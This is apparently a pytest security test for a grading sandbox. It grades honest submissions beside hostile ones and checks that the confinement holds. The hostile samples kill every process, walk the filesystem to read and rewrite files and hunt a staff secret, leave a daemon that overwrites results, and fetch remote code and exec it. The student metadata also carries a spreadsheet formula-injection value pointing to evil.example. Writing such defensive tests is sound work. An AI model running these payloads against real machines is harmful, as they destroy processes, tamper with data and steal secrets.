"""Staff machines: a class export graded two at a time (``--jobs 2``) with hostile submissions
beside honest copies of the reference, on every path staff use: as root, as an ordinary user, and
through submitit's local executor (the Slurm path on this machine).

The hostile bank, each submission the reference plus an attack:

- ``killer``    kills every process it can see, at import and from a daemon, for a minute;
- ``snoop``     reads and rewrites everything it can reach (the export, the output folder, the
                checkout, the grading environment's site-packages, the staff's home with a secret
                in it) and searches the whole file system for the secret; it keeps the reference's
                answers only if it found and changed nothing;
- ``daemon``    leaves a daemon for the next grading: it waits, then overwrites every results.json
                and scores.csv it can find and kills what it can, for a minute;
- ``network``   a stub that fetches its code from a listener the test opens on 127.0.0.1.

Every honest copy keeps full marks, the listener sees no connection, the secret appears nowhere
in the output, nothing outside the grader's scratch changes, no process of the student's outlives
the batch, and each hostile submission gets only what its own code earns.
"""
from __future__ import annotations

import csv
import json
import os
import pwd
import secrets
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest
from conftest import REPO, make_root, only_questions
from test_batch import reference, student, with_code

from autograder.batch.records import BatchOptions
from autograder.batch.run import run_batch
from autograder.batch.state import read_state, sealed
from autograder.grading.config import load_config
from autograder.grading.sandbox import confinement as C
from autograder.grading.supervisor import Layout

ROOT = os.geteuid() == 0
SECRET = "hw12-staff-secret-" + secrets.token_hex(8)
STAFF_USER = "hw12staff"  # the ordinary user the non-root path runs as (created here as root)

pytestmark = [
    pytest.mark.skipif(C.namespaces_problem() is not None and os.environ.get("CI") != "true",
                       reason=f"no namespaces here: {C.namespaces_problem()}"),
    pytest.mark.skipif(not ROOT and os.environ.get("CI") != "true",
                       reason="setting up the ordinary user and the uid pool needs root"),
]

DAEMON_NAME = "hw12d" + secrets.token_hex(4)  # what the submissions' daemons call themselves

KILL_EVERYTHING = """
import ctypes, os, signal, time
def _name_me():  # PR_SET_NAME: the test finds every process left behind by this name
    ctypes.CDLL(None).prctl(15, DAEMON_NAME.encode(), 0, 0, 0)
def _kill_everything():
    for p in os.listdir('/proc'):
        if p.isdigit() and int(p) != os.getpid():
            try:
                os.kill(int(p), signal.SIGKILL)
            except OSError:
                pass
"""

KILL_EVERYTHING = KILL_EVERYTHING.replace("DAEMON_NAME", repr(DAEMON_NAME))

KILLER = KILL_EVERYTHING + """
_kill_everything()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _name_me()
        end = time.time() + 60
        while time.time() < end:
            _kill_everything()
            time.sleep(0.05)
    os._exit(0)
"""

SNOOP = """
import os
_TARGETS = {targets!r}
_SECRET = {reversed_secret!r}[::-1].encode()  # not in this file as it is searched for
_found = []
def _touch(path):
    try:
        with open(path, 'rb') as f:
            if _SECRET in f.read(1 << 20):
                _found.append('read the secret in ' + path)
    except OSError:
        pass
    try:
        with open(path, 'a') as f:
            f.write('pwned')
        _found.append('wrote ' + path)
    except OSError:
        pass
for top in _TARGETS:
    for dirpath, dirnames, filenames in os.walk(top):
        for name in filenames[:200]:
            _touch(os.path.join(dirpath, name))
    try:
        with open(os.path.join(top, 'pwned.txt'), 'w') as f:
            f.write('pwned')
        _found.append('created a file in ' + top)
    except OSError:
        pass
import sys
_seen, _system = 0, ('/proc', '/sys', '/dev', '/usr', sys.prefix, sys.base_prefix)
for dirpath, dirnames, filenames in os.walk('/'):
    dirnames[:] = [d for d in dirnames
                   if not os.path.join(dirpath, d).startswith(_system)]
    for name in filenames:
        _seen += 1
        if _seen > 20000:
            break
        try:
            with open(os.path.join(dirpath, name), 'rb') as f:
                if _SECRET in f.read(1 << 16):
                    _found.append('found the secret in ' + os.path.join(dirpath, name))
        except OSError:
            pass
_reference_survival_prob = survival_prob
def survival_prob(t, delta):
    if _found:
        raise RuntimeError('escaped: ' + repr(_found[:20]))
    return _reference_survival_prob(t, delta)
"""

DAEMON = KILL_EVERYTHING.replace("{", "{{").replace("}", "}}") + """
import glob
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _name_me()
        time.sleep(1)
        end = time.time() + 60
        while time.time() < end:
            for path in glob.glob({out!r} + '/*/results*.json') + glob.glob({out!r} + '/*.csv'):
                try:
                    open(path, 'w').write('{{"score": 0, "tests": []}}')
                except OSError:
                    pass
            _kill_everything()
            time.sleep(0.1)
    os._exit(0)
"""

NETWORK = """
def survival_prob(t, delta):
    import socket
    with socket.create_connection(('127.0.0.1', {port}), timeout=3) as s:
        code = s.recv(65536).decode()
    namespace = {{}}
    exec(code, namespace)
    return namespace['survival_prob'](t, delta)
"""

HONEST = ("honest_1", "honest_2", "honest_3")


def snapshot(*tops: Path) -> dict[str, tuple]:
    """Every file under ``tops`` (mode, size, mtime) and every folder (mode: who may enter), links
    not followed; Python's own byte-code caches left out."""
    out = {}
    for top in map(Path, tops):
        st = os.lstat(top)
        out[str(top)] = (st.st_mode,)
        for dirpath, dirnames, filenames in os.walk(top):
            dirnames[:] = [d for d in dirnames if d != "__pycache__"]
            for name in dirnames:
                out[os.path.join(dirpath, name)] = (os.lstat(os.path.join(dirpath, name)).st_mode,)
            for name in filenames:
                st = os.lstat(os.path.join(dirpath, name))
                out[os.path.join(dirpath, name)] = (st.st_mode, st.st_size, st.st_mtime_ns)
    return out


def make_case(base: Path, port: int, site_packages: str, owner: str | None = None) -> dict:
    """The export, the grading root, the output folder and the staff home of one test, under
    ``base``; owned by ``owner`` (the ordinary user) when given. Imports may take a minute: the
    snoop searches the file system at import, which must not time out on a loaded machine."""
    home = base / "staff-home"
    home.mkdir(mode=0o700)
    (home / "secret.txt").write_text(SECRET)
    os.chmod(home / "secret.txt", 0o600)
    root = make_root(base, lambda cfg: (cfg["defaults"].update(time_limit_s=30, import_timeout_s=60),
                                        only_questions(cfg, "diffusion", {"q1a", "q1c"})))
    export, out = base / "export", base / "out"
    targets = [str(export), str(out), str(REPO / "solutions"), str(REPO / "autograder" / "tests"),
               str(root), site_packages, str(home)]
    builders = {
        "honest_1": reference, "honest_2": reference, "honest_3": reference,
        "killer": with_code("binary_diffusion", KILLER),
        "snoop": with_code("binary_diffusion", SNOOP.format(targets=targets, reversed_secret=SECRET[::-1])),
        "daemon": with_code("binary_diffusion", DAEMON.format(out=str(out))),
        "network": with_code("binary_diffusion", NETWORK.format(port=port)),
    }
    export.mkdir()
    for sub_id, build in builders.items():
        build(export / sub_id)
    people = {sub_id: [student(i)] for i, sub_id in enumerate(builders, 1)}
    people["honest_1"] = [student(1, '=HYPERLINK("http://evil.example/?leak","open me")')]
    from test_batch import metadata_yaml

    (export / "submission_metadata.yml").write_text(metadata_yaml(people))
    if owner is not None:
        entry = pwd.getpwnam(owner)
        for p in [base, *base.rglob("*")]:
            os.lchown(p, entry.pw_uid, entry.pw_gid)
    return {"root": root, "export": export, "out": out, "home": home}


def check_batch(case: dict, seen: list, before: dict) -> None:
    out = case["out"]
    with open(out / "scores.csv", newline="") as f:
        rows = {r["submission"]: r for r in csv.DictReader(f)}
    for sub_id in HONEST:
        assert rows[sub_id]["score"] == rows[sub_id]["max_score"] == "3", rows[sub_id]
        results = json.loads((out / sub_id / "results.json").read_text())
        assert results["score"] == 3, results["output"]
        state = read_state(out, sub_id)
        assert sealed(out, state) and state.confinement["kind"] == "namespaces", state
    assert rows["honest_1"]["name"].startswith("'="), "a formula must reach a spreadsheet as text"
    assert seen == [], f"the network submission reached the listener: {seen}"
    # each hostile submission: only what its own code earns
    assert rows["snoop"]["score"] == "3", "snoop found or changed something: " + "\n".join(
        t["output"][:1500] for t in json.loads((out / "snoop" / "results.json").read_text())["tests"]
        if t.get("status") == "failed")
    assert rows["network"]["q1a"] == "0" and rows["network"]["q1c"] == "1", rows["network"]
    for sub_id in ("killer", "daemon"):  # they kill their own processes: whatever that earns
        assert json.loads((out / sub_id / "results.json").read_text())["tests"], sub_id
    for path in out.rglob("*"):
        if path.is_file() and path.name != ".grader-key":
            assert SECRET not in path.read_text(errors="replace"), path
    after = snapshot(*before["tops"])
    changed = sorted(p for p in set(before["files"]) | set(after)
                     if before["files"].get(p) != after.get(p))
    assert changed == [], f"changed outside the scratch: {changed[:20]}"
    assert not (Path(before["site"]) / "pwned.txt").exists()
    time.sleep(0.5)
    left = [pid for pid, _, name in live_processes() if name == DAEMON_NAME]
    assert left == [], f"the submissions' daemons outlived the batch: {left}"


def live_processes() -> list[tuple[int, int, str]]:
    """(pid, real uid, name) of every live process."""
    out = []
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        try:
            fields = dict(line.split(":", 1) for line in open(f"/proc/{p}/status") if ":" in line)
            if fields["State"].split()[0] != "Z":
                out.append((int(p), int(fields["Uid"].split()[0]), fields["Name"].strip()))
        except (OSError, KeyError, ValueError):
            continue
    return out


def site_packages() -> str:
    import sysconfig

    return sysconfig.get_paths()["purelib"]


def tops(case: dict) -> list[Path]:
    """What no submission may change: the export, the grading root's config, the staff home, the
    checkout's code, tests and solutions, and the release."""
    return [case["export"], case["home"], REPO / "autograder", REPO / "solutions",
            REPO / "assignment" / "hw12", case["root"] / "grading_config.yaml"]


def _run_batch(case: dict, **opts) -> None:
    layout = Layout(case["root"])
    cfg, cases = load_config(layout.config, layout.tests)
    options = BatchOptions(part="diffusion", jobs=2, progress=False, **opts)
    assert run_batch(layout, cfg, cases, case["export"], case["out"], options) == 0


@pytest.mark.parametrize("executor", ["local", "submitit-local"])
def test_a_hostile_export_graded_as_root_harms_nobody(executor, listener, tmp_path):
    if not ROOT:
        pytest.fail("CI runs as root: the root path must be tested")
    port, seen = listener
    case = make_case(tmp_path, port, site_packages())
    before = {"tops": tops(case), "files": snapshot(*tops(case)), "site": site_packages()}
    _run_batch(case, executor=executor, chunk_size=8)
    check_batch(case, seen, before)
    # a rerun reuses only what the grader sealed: a results.json changed by anyone else is regraded
    honest = case["out"] / "honest_2" / "results.json"
    honest.write_text(honest.read_text().replace('"score": 3', '"score": 0', 1))
    _run_batch(case, executor="local")
    assert json.loads(honest.read_text())["score"] == 3


def _ordinary_user() -> pwd.struct_passwd:
    try:
        return pwd.getpwnam(STAFF_USER)
    except KeyError:
        subprocess.run(["useradd", "--create-home", "--shell", "/bin/bash", STAFF_USER], check=True)
        return pwd.getpwnam(STAFF_USER)


def as_ordinary_user(user: pwd.struct_passwd, cmd: list[str], env: dict) -> list[str]:
    """``cmd`` run as ``user`` where the grading Python is reachable without changing any mode on
    this machine: root makes a mount namespace in which /root (where pyenv keeps Python here) is
    replaced by a folder holding only the Python installation and, if it is there, the checkout."""
    python_dirs = sorted({sys.base_prefix, os.path.dirname(os.path.dirname(
        os.path.realpath(sys.executable))), str(REPO)})
    view = ["--bind", "/", "/", "--dev-bind", "/dev", "/dev",  # the host /proc: a new one
            # here would make the kernel refuse the grader's own proc mount in its user namespace
            "--perms", "0755", "--tmpfs", "/root"]
    made = {"/", "/root"}
    for path in python_dirs:
        if not path.startswith("/root/"):
            continue
        for parent in map(str, reversed(Path(path).parents)):
            if parent not in made and parent.startswith("/root/"):
                view += ["--perms", "0755", "--dir", parent]
                made.add(parent)
        view += ["--ro-bind", path, path]
    return [C.bwrap(), *view, "--", "setpriv", f"--reuid={user.pw_uid}", f"--regid={user.pw_gid}",
            "--init-groups", "--reset-env", "--", "env", *[f"{k}={v}" for k, v in env.items()],
            *cmd]


def test_a_hostile_export_graded_by_an_ordinary_user_harms_nobody(listener):
    """A TA's own account on a shared box, no root: the students' code runs in a user namespace
    with the TA's uid, so only the namespaces stand between it and the TA's files."""
    user = _ordinary_user()
    port, seen = listener
    base = Path(tempfile.mkdtemp(prefix="hw12-staffuser-"))
    try:
        os.chmod(base, 0o755)
        case = make_case(base, port, site_packages(), owner=user.pw_name)
        before = {"tops": tops(case), "files": snapshot(*tops(case)), "site": site_packages()}
        env = {"HOME": str(case["home"]), "PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin",
               "PYTHONPATH": str(case["root"]), "TMPDIR": str(base), "OMP_NUM_THREADS": "1",
               "MPLCONFIGDIR": str(base / "mpl")}  # the report's plots: the grader's own cache
        paths = [str(REPO), str(REPO / "tests"), str(Path(__file__).parent)]
        code = (f"import sys; sys.path[:0] = {paths!r}\n"
                "from pathlib import Path\nimport test_hostile_batch as T\n"
                f"T._run_batch({{k: Path(v) for k, v in {({k: str(v) for k, v in case.items()})!r}"
                ".items()})\n")
        cmd = [sys.executable, "-c", code]
        proc = subprocess.run(as_ordinary_user(user, cmd, env), cwd=str(case["root"]),
                              capture_output=True, text=True, timeout=900)
        assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
        state = json.loads((case["out"] / "honest_1" / "grading.json").read_text())
        assert state["confinement"]["user_namespace"] is True, state["confinement"]
        check_batch(case, seen, before)
        left = [p for p in live_processes() if p[1] == user.pw_uid]
        assert left == [], f"processes of the ordinary user outlived the batch: {left}"
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_an_ordinary_user_without_namespaces_is_refused_before_any_code_runs(tmp_path):
    """Secure by default: no bubblewrap on PATH and not root, so `grade` stops at once and says
    what is missing and how to get it (and that --unconfined exists, for code staff trust)."""
    user = _ordinary_user()
    base = Path(tempfile.mkdtemp(prefix="hw12-staffuser-"))
    try:
        os.chmod(base, 0o755)
        (base / "sub" / "hw12").mkdir(parents=True)
        marker = base / "ran.txt"
        (base / "sub" / "hw12" / "binary_diffusion.py").write_text(
            f"open({str(marker)!r}, 'w').write('ran')\n")
        for p in [base, *base.rglob("*")]:
            os.lchown(p, user.pw_uid, user.pw_gid)
        nobwrap = base / "bin"
        nobwrap.mkdir()
        env = {"HOME": str(base), "PATH": f"{nobwrap}:/usr/local/bin",
               "PYTHONPATH": str(REPO), "TMPDIR": str(base)}
        cmd = [sys.executable, "-m", "autograder", "grade", str(base / "sub"), "--part",
               "diffusion", "--output", str(base / "r.json")]
        proc = subprocess.run(as_ordinary_user(user, cmd, env), cwd=str(REPO), capture_output=True,
                              text=True, timeout=300)
        assert proc.returncode != 0 and not marker.exists()
        message = proc.stdout + proc.stderr
        assert "not grading" in message and "bubblewrap" in message and "--unconfined" in message, \
            message[-2000:]
    finally:
        shutil.rmtree(base, ignore_errors=True)
